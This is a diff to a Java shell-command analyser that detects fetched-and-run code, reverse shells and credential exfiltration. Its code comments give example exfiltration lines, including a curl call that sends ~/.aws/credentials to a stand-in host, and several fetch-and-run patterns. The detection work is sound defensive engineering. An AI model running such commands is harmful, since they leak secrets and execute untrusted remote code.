@@ -197,6 +197,8 @@ final class ShellFacts {
         secretSearches(commands, readings);
         List<Act> acts = new ArrayList<>(commands.size());
         Map<String, Written> written = new java.util.HashMap<>();
+        // Where the commands run, as `cd` moves it: a program named by a relative path is found from there.
+        String directory = context.cwd();
         Command previous = null;
         boolean previousChangedNothing = false;
         for (Command c : commands) {
@@ -228,8 +230,12 @@ final class ShellFacts {
                 r.scope = Optional.empty(); // awk's read-only bound holds only for a program that only prints
             }
             c.code().ifPresent(code -> interpreter(code, read, r, commands, readings));
-            runsWrittenFile(c, r, written, analysis.source(), acts);
+            runsWrittenFile(c, r, written, directory, analysis.source(), acts);
             buildsWrittenFile(c, r, written);
+            if (r.fetches && r.signals.contains(Signal.NETWORK_CODE)) {
+                // A runner of remote code (`deno run URL`, `nix run github:…`, `npx URL`): judged by where it fetches.
+                networkSource(c, r);
+            }
             if (!read) {
                 inlineShellCalls(c, r, analysis.source(), acts);
             }
@@ -244,7 +250,14 @@ final class ShellFacts {
             if (r.signals.contains(Signal.CONFIG_CODE) && onlyReads(r, acts.subList(codeActs, acts.size()))) {
                 r.signals.remove(Signal.CONFIG_CODE);
             }
-            remember(c, r, written);
+            remember(c, r, written, readings, directory);
+            if (c.program().equals("cd") || c.program().equals("pushd")) {
+                directory = c.args().stream()
+                        .filter(w -> !w.value().startsWith("-") && w.path().isPresent())
+                        .map(w -> w.path().get())
+                        .findFirst()
+                        .orElse(directory);
+            }
             // xargs curl 'https://x.example/?d={}': what the input holds becomes the arguments of a command that
             // names a host, and so goes to it.
             // curl "https://x.example/?k=$(cat ~/.aws/credentials)": a substitution inside a URL goes to its host too.
@@ -443,19 +456,38 @@ final class ShellFacts {
      */
     private record Written(Optional<Command> fetcher, boolean decoded, String text) {}
 
+    /** A program file Windows runs by its name alone: cmd.exe's PATHEXT ({@code .exe}, {@code .bat}, ...). */
+    private static final Pattern WINDOWS_RUNNABLE = Pattern.compile("(?i)[^/\\\\]+\\.(exe|com|bat|cmd|ps1|vbs|js|msi)");
+
     /** A shell call with a literal command: group 1 or 2 is the command, in single or double quotes. */
     private static final Pattern SHELL_CALL = Pattern.compile(
             "(?:os\\.system|os\\.popen|subprocess\\.(?:run|call|Popen|check_output|check_call)|\\bsystem|\\bexec|\\bpopen"
                     + "|execSync|spawnSync|shell_exec|passthru|proc_open|IO\\.popen)\\s*\\(?\\s*(?:'([^'\\n]+)'|\"([^\"\\n]+)\")");
 
     /** Records files written with known origin: {@code curl -o f URL}, {@code echo ... > f}, {@code cat > f <<EOF}. */
-    private void remember(Command c, CommandReader.Reading r, Map<String, Written> written) {
+    private void remember(
+            Command c,
+            CommandReader.Reading r,
+            Map<String, Written> written,
+            Map<Command, CommandReader.Reading> readings,
+            String directory) {
+        if (r.fetches) {
+            r.fetchedTo.stream()
+                    .map(p -> reader.targetIn(directory, p))
+                    .filter(t -> !t.is(PathClass.DYNAMIC))
+                    .forEach(t -> written.put(t.resolved(), new Written(Optional.of(c), false, "")));
+        }
+        unpacksFetched(c, written, readings)
+                .ifPresent(fetcher -> r.unpacksTo.stream()
+                        .map(p -> reader.targetIn(directory, p))
+                        .filter(t -> !t.is(PathClass.DYNAMIC))
+                        .forEach(t -> written.put(t.resolved(), new Written(Optional.of(fetcher), false, ""))));
         for (Op op : r.ops) {
             if (op.kind() != OpKind.WRITE || op.target().is(PathClass.DYNAMIC)) {
                 continue;
             }
             String path = op.target().resolved();
-            if (CommandReader.FETCHERS.contains(c.program())) {
+            if (r.fetches) {
                 written.put(path, new Written(Optional.of(c), false, ""));
             } else if (DECODERS.contains(c.program()) && decodes(c)) {
                 written.put(path, new Written(Optional.empty(), true, ""));
@@ -477,21 +509,89 @@ final class ShellFacts {
         }
     }
 
-    /** {@code sh f}, {@code bash f}, {@code source f}, {@code ./f}, {@code python f} where f was written earlier in the line. */
     /**
-     * A local command (a build or run tool: {@code go run}, {@code deno run}) that names a file the same line wrote
-     * ({@code echo '…' > /tmp/t.go && go run /tmp/t.go}): its bound vouches for the project's own code, and that file
-     * is not the project's but code the line brought in, so the command has no scope; a reverse shell in the text is
-     * one. Reading such a file ({@code cat}, read-only) keeps its scope.
+     * The download an unpacker unpacks, if it unpacks one: an archive the line fetched (named by one of its words) or
+     * a download piped into it ({@code curl URL | tar xz}). What it unpacks is then fetched code too.
      */
-    private void buildsWrittenFile(Command c, CommandReader.Reading r, Map<String, Written> written) {
-        if (written.isEmpty() || !r.scope.equals(Optional.of(Scope.LOCAL))) {
-            return;
+    private Optional<Command> unpacksFetched(
+            Command c, Map<String, Written> written, Map<Command, CommandReader.Reading> readings) {
+        if (readings.get(c).unpacksTo.isEmpty()) {
+            return Optional.empty();
+        }
+        if (c.stdin() instanceof Input.Pipe(List<Command> upstream)) {
+            for (Command u : upstream) {
+                CommandReader.Reading ur = readings.get(u);
+                if (ur != null && ur.fetches) {
+                    return Optional.of(u);
+                }
+            }
         }
         for (Word w : c.args()) {
             Written file = w.value().startsWith("-")
                     ? null
-                    : written.get(reader.target(w).resolved());
+                    : writtenAt(reader.target(w).resolved(), written);
+            if (file != null && file.fetcher().isPresent()) {
+                return file.fetcher();
+            }
+        }
+        return Optional.empty();
+    }
+
+    /**
+     * What the line wrote at a path: the file itself, or a download or unpacked tree the path lies in ({@code
+     * /tmp/k/install.sh} after {@code tar xzf k.tgz -C /tmp}).
+     */
+    private static Written writtenAt(String path, Map<String, Written> written) {
+        Written file = written.get(path);
+        if (file != null) {
+            return file;
+        }
+        for (int slash = path.lastIndexOf('/'); slash > 0; slash = path.lastIndexOf('/', slash - 1)) {
+            Written place = written.get(path.substring(0, slash));
+            if (place != null && place.fetcher().isPresent()) {
+                return place;
+            }
+        }
+        return null;
+    }
+
+    /**
+     * A local command (a build or run tool: {@code go run}, {@code deno run}) that names a file the same line wrote
+     * ({@code echo '…' > /tmp/t.go && go run /tmp/t.go}): its bound vouches for the project's own code, and that file
+     * is not the project's but code the line brought in, so the command has no scope; a reverse shell in the text is
+     * one. Reading such a file ({@code cat}, read-only) keeps its scope. A build tool pointed at a download or into
+     * a tree unpacked from one ({@code make -C /tmp/p install}, {@code go run /tmp/m.go}) runs fetched code, and so
+     * does installing or applying a downloaded file ({@code snap install --dangerous /tmp/x.snap}, {@code dpkg -i},
+     * {@code nomad job run /tmp/j.hcl}: a package install, a change of the system or of what a CLI manages).
+     */
+    private void buildsWrittenFile(Command c, CommandReader.Reading r, Map<String, Written> written) {
+        if (written.isEmpty()) {
+            return;
+        }
+        boolean local = r.scope.equals(Optional.of(Scope.LOCAL));
+        boolean builds = !r.scope.equals(Optional.of(Scope.READ_ONLY))
+                && !r.fetches
+                && r.unpacksTo.isEmpty()
+                && (reader.buildsProjects(c.program())
+                        || r.signals.contains(Signal.PACKAGE_INSTALL)
+                        || r.signals.contains(Signal.STATE_CHANGE)
+                        || r.signals.contains(Signal.SYSTEM_CHANGE));
+        if (!local && !builds) {
+            return;
+        }
+        for (Word w : c.args()) {
+            if (w.value().startsWith("-")) {
+                continue;
+            }
+            String path = reader.target(w).resolved();
+            Written place = writtenAt(path, written);
+            if (builds && place != null && place.fetcher().isPresent()) {
+                r.scope = Optional.empty();
+                r.signals.add(Signal.NETWORK_CODE);
+                networkSource(place.fetcher().get(), r);
+                return;
+            }
+            Written file = local ? written.get(path) : null;
             if (file != null) {
                 r.scope = Optional.empty();
                 if (found(REVERSE_SHELL_CODE, file.text(), r)) {
@@ -502,15 +602,22 @@ final class ShellFacts {
         }
     }
 
+    /** {@code sh f}, {@code bash f}, {@code source f}, {@code ./f}, {@code python f} where f was written earlier in the line. */
     private void runsWrittenFile(
-            Command c, CommandReader.Reading r, Map<String, Written> written, String source, List<Act> acts) {
+            Command c,
+            CommandReader.Reading r,
+            Map<String, Written> written,
+            String directory,
+            String source,
+            List<Act> acts) {
         if (written.isEmpty()) {
             return;
         }
         String script = null;
         String as = c.programAsWritten();
-        if (as.contains("/")) {
-            script = reader.targetOf(as, false).resolved();
+        if (as.contains("/") || WINDOWS_RUNNABLE.matcher(as).matches()) {
+            // cmd.exe runs a program named without a path from the working directory first (its PATHEXT names).
+            script = reader.targetIn(directory, as).resolved();
         } else if (CommandReader.SHELLS.contains(c.program())
                 || ShellAnalyser.isInterpreter(c.program())
                 || c.program().equals("source")
@@ -522,7 +629,7 @@ final class ShellFacts {
                 }
             }
         }
-        Written w = script == null ? null : written.get(script);
+        Written w = script == null ? null : writtenAt(script, written);
         if (w == null) {
             return;
         }
@@ -610,6 +717,9 @@ final class ShellFacts {
         }
         if (code.has(CodeEffect.FORK_LOOP)) {
             r.signals.add(Signal.FORK_BOMB);
+        }
+        if (code.has(CodeEffect.DISABLES_DEFENCE)) {
+            r.signals.add(Signal.SECURITY_DISABLE);
         }
         if (code.has(CodeEffect.LISTENS) && code.listensOnAllInterfaces()) {
             r.signals.add(Signal.LISTEN_ALL);
@@ -786,21 +896,20 @@ final class ShellFacts {
                 && (code.source() == CodeSource.ARGUMENT || code.source() == CodeSource.PROCESS_SUBSTITUTION)) {
             feeders = all.stream()
                     .filter(c -> c.has(dev.lighthouse.shell.Trait.SUBSTITUTION))
-                    .filter(c ->
-                            CommandReader.FETCHERS.contains(c.program()) || CommandReader.RAW_NET.contains(c.program()))
+                    .filter(c -> readings.get(c).fetches || readings.get(c).connects)
                     .toList();
         }
         for (Command feeder : feeders) {
             String p = feeder.program();
-            if (CommandReader.FETCHERS.contains(p)) {
+            CommandReader.Reading fr = readings.get(feeder);
+            if (fr != null && fr.fetches) {
                 r.signals.add(Signal.NETWORK_CODE);
                 networkSource(feeder, r);
-            } else if (CommandReader.RAW_NET.contains(p)) {
+            } else if (fr != null && fr.connects) {
                 r.signals.add(Signal.REVERSE_SHELL);
             } else if (DECODERS.contains(p) && decodes(feeder)) {
                 r.signals.add(Signal.DECODED_EXEC);
             }
-            CommandReader.Reading fr = readings.get(feeder);
             if (fr != null && fr.signals.contains(Signal.NETWORK_CODE)) {
                 r.signals.add(Signal.NETWORK_CODE);
             }
@@ -931,12 +1040,19 @@ final class ShellFacts {
             r.hosts.add(host);
         }
         if (!any) {
+            // A host without a scheme: plain HTTP to curl and wget; to scp, rsync or ncftpget (user@host:path) its own
+            // protocol, which is only judged by whether the host is a raw address.
+            boolean http = reader.takesSchemelessUrls(feeder);
             for (Word w : CommandReader.operands(feeder, Set.of("-o", "-O", "-H", "-X", "-d", "-u", "-A", "-e"))) {
-                Urls.bareHost(w.value()).ifPresent(h -> {
+                String v = w.value().substring(w.value().indexOf('@') + 1);
+                String host = ProgramRegistry.isRemote(v) ? v.substring(0, v.indexOf(':')) : v;
+                Urls.bareHost(host).ifPresent(h -> {
                     if (Urls.isRawIp(h)) {
                         r.signals.add(Signal.RAW_IP);
                     }
-                    r.signals.add(Signal.PLAIN_HTTP);
+                    if (http) {
+                        r.signals.add(Signal.PLAIN_HTTP);
+                    }
                 });
             }
         }
@@ -1093,8 +1209,7 @@ final class ShellFacts {
             if (opensSocket && CommandReader.SHELLS.contains(c.program()) && stdioOnRuntimeDescriptor(c)) {
                 readings.get(c).signals.add(Signal.REVERSE_SHELL);
             }
-            if (CommandReader.RAW_NET.contains(c.program())
-                    && c.stdin() instanceof Input.Pipe(List<Command> upstream)) {
+            if (readings.get(c).connects && c.stdin() instanceof Input.Pipe(List<Command> upstream)) {
                 for (Command u : upstream) {
                     if (CommandReader.SHELLS.contains(u.program())) {
                         readings.get(c).signals.add(Signal.REVERSE_SHELL);
